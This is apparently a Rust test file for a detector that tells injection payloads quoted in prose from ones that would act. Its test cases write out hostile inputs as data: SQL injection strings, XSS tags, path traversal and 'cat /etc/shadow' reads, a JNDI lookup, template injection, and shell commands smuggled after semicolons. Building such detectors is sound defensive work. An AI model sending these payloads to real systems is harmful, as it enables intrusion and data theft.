//! Lines that speak of attacks, and attacks behind lines: the same payloads, told and sent.

use super::{ATTACKS, ATTACKS_LATER, Verdict, attacks};
use crate::field::short::{read, read_line};

/// Sentences with a place for what they quote.
const SENTENCES: &[&str] = &[
    "Escape ‹› in search results",
    "Why does the search box refuse ‹› with a 403?",
    "Document that ‹› is only text in a title",
    "Users paste ‹› into the chat and it is cut off",
    "fix: render ‹› as plain text",
    "The agent should treat ‹› as data, not as an order",
    "How do I search for ‹› ?",
    "finding 4 of the report: ‹›",
    "Page breaks when the name is ‹›",
];

/// Titles that are whole by themselves.
const TITLES: &[&str] = &[
    "Weekly report",
    "Fix login page",
    "Notes from the planning meeting",
    "Rust book, chapter 4",
    "Upgrade guide for administrators",
];

/// Payloads that begin with no word, on one line.
fn payloads() -> Vec<(&'static str, String)> {
    let all = attacks(ATTACKS).chain(attacks(ATTACKS_LATER));
    let texts = all.filter_map(|(family, value)| Some((family, String::from_utf8(value).ok()?)));
    let all = texts.filter(|(_, text)| !text.starts_with(char::is_alphanumeric) && !text.contains(['\n', '\r', '`']));
    all.step_by(3).collect()
}

fn per_mille(values: &[String], of: impl Fn(&str) -> bool) -> usize {
    values.iter().filter(|value| of(value)).count() * 1000 / values.len()
}

#[test]
fn what_a_sentence_quotes_is_told() {
    for sentence in SENTENCES {
        let quoted: Vec<_> = payloads().iter().map(|(_, text)| sentence.replace("‹›", &format!("`{text}`"))).collect();
        let (told, sent) = (
            per_mille(&quoted, |line| read_line(line.as_bytes()).verdict == Verdict::Ordinary),
            per_mille(&quoted, |line| read(line.as_bytes()).verdict == Verdict::Attack),
        );
        assert!(told >= 990, "{sentence}: {told} per mille");
        assert!(sent >= 750, "{sentence}: where no line stands, {sent} per mille");
    }
}

#[test]
fn what_stands_behind_a_title_is_sent() {
    for title in TITLES {
        for (join, least) in [(" ", 900), (" - ", 780)] {
            let behind: Vec<_> = payloads()
                .iter()
                .filter(|(family, _)| matches!(*family, "sql" | "xss" | "shell" | "template" | "query" | "code"))
                .map(|(_, text)| format!("{title}{join}{text}"))
                .collect();
            let rate = per_mille(&behind, |line| read_line(line.as_bytes()).verdict == Verdict::Attack);
            assert!(rate >= least, "{title:?}{join}: {rate} per mille");
        }
    }
}

/// What has to stand by itself to act, told in a sentence; and what acts wherever it stands, or ends what is before it.
#[test]
fn words_around_code() {
    for (line, verdict) in [
        ("../../../etc/passwd in the access log", Verdict::Ordinary),
        ("cat /etc/passwd is world-readable, fine?", Verdict::Ordinary),
        ("os.system(\"ls\") vs subprocess", Verdict::Ordinary),
        ("http://169.254.169.254 is blocked by the filter", Verdict::Ordinary),
        ("!!python/object error from PyYAML", Verdict::Ordinary),
        ("../../../etc/passwd", Verdict::Attack),
        ("cmd /c whoami", Verdict::Attack),
        ("Weekly report; cat /etc/passwd", Verdict::Attack),
        ("Weekly report <script>alert(1)</script> of the team", Verdict::Attack),
        ("In the list <img src=x onerror=alert(1)> is shown as text", Verdict::Attack),
        ("In the list `<img src=x onerror=alert(1)>` is shown as text", Verdict::Ordinary),
        ("Why is ${jndi:ldap://x.example/a} in our logs?", Verdict::Doubtful),
        ("It is {{ ''.__class__.__mro__ }} that we see in the page", Verdict::Attack),
    ] {
        assert_eq!(read_line(line.as_bytes()).verdict, verdict, "{line}: {:?}", read_line(line.as_bytes()));
    }
}

/// A text that begins as a command line, a statement or a path has nothing to break out of.
#[test]
fn openings() {
    for (line, verdict) in [
        ("df -h; du -sh *", Verdict::Ordinary),
        ("x; df -h", Verdict::Attack),
        ("ls; cat /etc/shadow", Verdict::Attack),
        ("select a.id from a union select b.id from b", Verdict::Ordinary),
        ("1 union select b.id from b--", Verdict::Attack),
        ("select sleep(5)", Verdict::Attack),
        ("//a[text()='Next'] | //a[@rel='next']", Verdict::Ordinary),
        ("//table/tr[td[1]='x']/td[2]", Verdict::Ordinary),
        ("x'] | //a[@rel='next", Verdict::Attack),
        ("The boss' order by Friday", Verdict::Ordinary),
        ("users' order by 1--", Verdict::Attack),
        ("users' or 1=1--", Verdict::Attack),
        ("Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON", Verdict::Ordinary),
        ("<a href=\"javascript:void(0)\"> replaced by a button", Verdict::Ordinary),
        ("<a href=\"javascript:void(0);alert(1)\">", Verdict::Attack),
        ("docker ps --format '{{.Names}}'", Verdict::Ordinary),
    ] {
        assert_eq!(read_line(line.as_bytes()).verdict, verdict, "{line}: {:?}", read_line(line.as_bytes()));
    }
}

/// What looks like a quotation and is the end of a string, or what a command runs.
#[test]
fn quotes_of_programs_are_no_quotations() {
    for line in [
        "Fix the login page ' || true || '",
        "Fix the login page '; id; '",
        "Notes on the plan ; python3 -c \"import os; os.system('id')\"",
        "Notes on the plan ; bash -c \"cat /etc/passwd\"",
        "for the record ' or \"a\"=\"a",
        "test ' or 1=1 --",
        "test ; cat /etc/passwd",
        "hello: ' or 1=1 --",
        "it is the name\nTo: `a@b.example`\r\nBcc: c@d.example",
        "see `x` and ' union select password from users --",
        "the value \"a\" ; drop table users; --",
    ] {
        assert_eq!(read_line(line.as_bytes()).verdict, Verdict::Attack, "{line}: {:?}", read_line(line.as_bytes()));
    }
}
